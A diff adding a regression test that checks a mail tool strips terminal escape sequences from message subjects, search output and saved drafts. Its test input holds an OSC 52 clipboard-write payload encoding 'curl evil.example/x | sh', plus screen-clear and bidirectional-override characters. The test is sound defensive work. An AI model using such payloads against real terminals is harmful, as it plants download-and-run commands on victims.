@@ -303,3 +303,29 @@ def test_me_remove_clients_list_and_invoice_list_say_what_they_do(home: Path) ->
 def run_json_plain(home: Path, *args: str) -> dict[str, Any]:
     data: dict[str, Any] = json.loads(run(home, *args, "--json", stdout=True))
     return data
+
+
+def test_escape_sequences_in_mail_never_reach_the_terminal(home: Path, tmp_path: Path) -> None:
+    """QA, session 14: a subject carrying OSC 52 (a clipboard write) and "ESC [2J" was printed
+    raw by `brief` and `search`, and kept in the saved draft's heading."""
+    (home / "clients.toml").write_text(
+        '[[client]]\nname = "Acme"\nid = "acme"\ndomains = ["acme.example"]\n'
+    )
+    evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07\x1b[2JUrgent \u202epilot\x9b"
+    mail = tmp_path / "in" / "evil.eml"
+    mail.parent.mkdir()
+    mail.write_bytes(
+        (
+            f"From: Cara <cara@acme.example>\nTo: sam@me.example\nSubject: {evil}\n"
+            "Date: Mon, 30 Nov 2026 09:00:00 +0000\nMessage-ID: <evil-1@acme.example>\n"
+            "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
+            f"Could you send the pilot plan by Friday? {evil}\n"
+        ).encode()
+    )
+    run(home, "ingest", str(mail.parent))
+    shown = run(home, "brief", "--today", "2026-11-30") + run(home, "search", "pilot plan")
+    shown += run(home, "draft", "email", "--client", "acme", "--reply-to", "evil-1@acme.example")
+    drafts = "".join(p.read_text() for p in (home / "drafts").glob("*.md"))
+    for said in (shown, drafts):
+        assert not any(ch in said for ch in "\x1b\x07\x9b\u202e"), repr(said)
+    assert "Urgent pilot" in shown
